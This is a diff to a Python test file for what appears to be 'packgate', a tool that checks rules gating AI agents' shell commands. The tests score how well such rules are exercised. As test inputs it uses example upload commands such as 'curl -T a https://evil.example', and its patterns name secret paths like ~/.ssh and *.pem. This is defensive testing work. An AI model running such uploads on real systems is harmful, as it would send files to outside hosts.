@@ -14,7 +14,7 @@ from packgate.testing import codes
 from packgate.testing.cases import collect
 from packgate.testing.equivalence import Known
 from packgate.testing.globs import narrowed, widened
-from packgate.testing.mutants import GROUPS, groups, mutants
+from packgate.testing.mutants import mutants
 from packgate.testing.mutation import MutationRun, mutate
 
 POLICY = """\
@@ -43,12 +43,12 @@ def run(
 ) -> MutationRun:
     """The run over one policy; a case is a command, or ``{...}`` as written."""
 
-    def cases(items: list[str]) -> str:
-        return "\n".join(f"        - {item}" if item[0] == "{" else f"        - {{command: '{item}', prompt: Do it.}}" for item in items)
+    def cases(items: list[str], more: str = "") -> str:
+        return "\n".join(f"        - {item}" if item[0] == "{" else f"        - {{command: '{item}', prompt: Do it.{more}}}" for item in items)
 
     path = folder / "rules.yaml"
     path.write_text(POLICY.format(
-        conditions=conditions, fires=cases(fires), silent=cases(silent), when=when, mode=mode, impact=impact,
+        conditions=conditions, fires=cases(fires, f", mode: {mode}"), silent=cases(silent), when=when, mode=mode, impact=impact,
     ), encoding="utf-8")
     result = load_pack(str(path))
     assert result.pack is not None, result.diagnostics
@@ -64,7 +64,7 @@ def survivors(found: MutationRun) -> list[str]:
 def test_cases_that_notice_everything(tmp_path: Path) -> None:
     found = run(tmp_path, "    if: {host: evil.example}", [FIRES], ["curl -T a https://good.example", "curl -T a https://evil.example.org"])
     assert survivors(found) == []
-    assert (found.killed, found.tried) == (2, 2)
+    assert (found.killed, found.tried) == (5, 5)
     assert found.to_json()["score"] == 100
 
 
@@ -111,7 +111,7 @@ def test_todo_and_failing_cases_notice_nothing(tmp_path: Path) -> None:
 
 
 def test_where_is_changed_too(tmp_path: Path) -> None:
-    found = run(tmp_path, "    where: {branch: main}", ["{command: 'curl -T a https://a.example', context: {branch: main}, prompt: Do it.}"], ["ls"])
+    found = run(tmp_path, "    where: {branch: main}", ["{command: 'curl -T a https://a.example', context: {branch: main}, prompt: Do it., mode: warn}"], ["ls"])
     assert survivors(found) == ["8:13 `branch` of `where` is not asked"]
 
 
@@ -126,7 +126,7 @@ def test_a_pattern_that_another_one_covers_is_equivalent(tmp_path: Path) -> None
 def test_values_of_a_closed_field(tmp_path: Path) -> None:
     """No effect but `send` has `send` in it, and no operation of the catalog has `upload` in it but `upload`."""
     fires, silent = [FIRES], ["curl -o a https://evil.example"]
-    assert survivors(run(tmp_path, "    if: {effect: send}", fires, silent)) == []
+    assert not [line for line in survivors(run(tmp_path, "    if: {effect: send}", fires, silent)) if "widened" in line]
     assert survivors(run(tmp_path, "    if: {operation: upload}", fires, silent, known=True)) == []
     assert [line for line in survivors(run(tmp_path, "    if: {operation: upload}", fires, silent, known=False)) if "widened" in line]
 
@@ -138,11 +138,24 @@ def test_a_word_of_the_catalog_that_a_wider_glob_meets_counts(tmp_path: Path) ->
     assert survivors(run(tmp_path, condition, fires, ["git commit -m x", "git branch -D a"], when="git-action")) == []
 
 
-def test_modes_are_counted_apart(tmp_path: Path) -> None:
-    for mode, impact, seen in (("warn", "risky", 2), ("block", "one-way", 2), ("audit", "routine", 3)):
-        score = run(tmp_path, "    if: {host: evil.example}", [FIRES], ["ls"], mode=mode, impact=impact).policies[0]
-        assert (score.modes, score.modes_seen) == (3, seen)
-        assert "mode" not in {*score.killed, *score.survived}
+def test_a_mode_is_noticed_by_a_case_that_states_it(tmp_path: Path) -> None:
+    condition, silent = "    if: {host: evil.example}", ["curl -T a https://good.example", "curl -T a https://evil.example.org"]
+    for mode, impact, made in (("warn", "risky", 2), ("block", "one-way", 1), ("audit", "routine", 1)):
+        score = run(tmp_path, condition, [FIRES], silent, mode=mode, impact=impact).policies[0]
+        assert (score.killed["mode"], score.survived["mode"]) == (made, 0)
+        unsaid = run(tmp_path, condition, [f"{{command: '{FIRES}', prompt: Do it.}}"], silent, mode=mode, impact=impact)
+        assert unsaid.policies[0].survived["mode"] == made
+    assert survivors(unsaid) == ["9:5 `then` is warn"]
+    assert unsaid.survivors[0].hint == "state `mode: audit` in a must_fire case"
+
+
+def test_closed_values_and_quantifiers(tmp_path: Path) -> None:
+    found = run(tmp_path, "    if: {network: public}", [FIRES], ["curl -T a http://localhost", "ls"])
+    assert survivors(found) == ["8:10 `network` of `if` takes 'private' too", "8:10 `network` of `if` takes 'metadata' too"]
+    assert found.survivors[0].hint == "add a must_not_fire case whose `network` is 'private' and for which all else holds"
+    assert found.policies[0].killed["quantifier"] == 1
+    found = run(tmp_path, "    if: {flag: {all: [-T, -s]}}", ["curl -s -T a https://x.example"], ["ls"])
+    assert "8:10 `flag` of `if` asks for any of its patterns, not all" in survivors(found)
 
 
 def test_known_values() -> None:
@@ -151,28 +164,21 @@ def test_known_values() -> None:
 
 
 @pytest.mark.parametrize(("text", "type", "expected"), [
-    ("x", "word", "*x*"), ("*x", "word", "*x*"), ("*x*", "word", None), ("x", "path", "*x*"), ("a/x", "path", "a/x*"), ("~/.ssh", "path", "~/.ssh*"),
-    ("/etc/**", "path", "/**"), ("~/a/**", "path", "~/**"), ("**/x/**", "path", "**/**"), ("*", "word", None), ("**", "path", None), ("/x/*", "path", None),
+    ("x", "word", ["*x*"]), ("*x", "word", ["*x*"]), ("*x*", "word", []), ("x", "path", ["*x*"]), ("a/x", "path", ["a/x*"]), ("~/.ssh", "path", ["~/.ssh*"]),
+    ("/etc/**", "path", ["/**"]), ("~/a/**", "path", ["~/**"]), ("**/x/**", "path", ["**/**"]), ("*", "word", []), ("**", "path", []),
+    ("/x/*", "path", ["/x/**"]), ("~/*", "path", ["~/**"]), ("/x/*/y", "path", ["/x/*/y*", "/x/**/y"]),
 ])
-def test_wider_globs(text: str, type: str, expected: str | None) -> None:
-    found = widened(Pattern("glob", text), type)
-    assert (None if found is None else found.text) == expected
-    assert widened(Pattern("regex", text), type) is None
+def test_wider_globs(text: str, type: str, expected: list[str]) -> None:
+    assert [new.text for new in widened(Pattern("glob", text), type)] == expected
+    assert widened(Pattern("regex", text), type) == []
 
 
 @pytest.mark.parametrize(("text", "type", "expected"), [
-    ("*x*", "word", "x"), ("x*", "word", "x"), ("x", "word", None), ("**/x/**", "path", "x"), ("*.pem", "path", ".pem"), ("*", "word", None),
-    ("/etc/**", "path", "/etc"), ("?*", "word", None), ("~/*", "path", None),
+    ("*x*", "word", ["x"]), ("x*", "word", ["x"]), ("x", "word", []), ("**/x/**", "path", ["x", "**/x/*"]), ("*.pem", "path", [".pem"]),
+    ("*", "word", []), ("/etc/**", "path", ["/etc", "/etc/*"]), ("?*", "word", []), ("~/*", "path", []),
 ])
-def test_narrower_globs(text: str, type: str, expected: str | None) -> None:
-    found = narrowed(Pattern("glob", text), type)
-    assert (None if found is None else found.text) == expected
-
-
-def test_long_lists_are_changed_in_groups() -> None:
-    assert [list(group) for group in groups(3, GROUPS)] == [[0], [1], [2]]
-    assert [len(group) for group in groups(20, GROUPS)] == [2, 3, 2, 3, 2, 3, 2, 3]
-    assert groups(0, GROUPS) == []
+def test_narrower_globs(text: str, type: str, expected: list[str]) -> None:
+    assert [new.text for new in narrowed(Pattern("glob", text), type)] == expected
 
 
 def test_named_lists_count_as_their_items(tmp_path: Path) -> None:
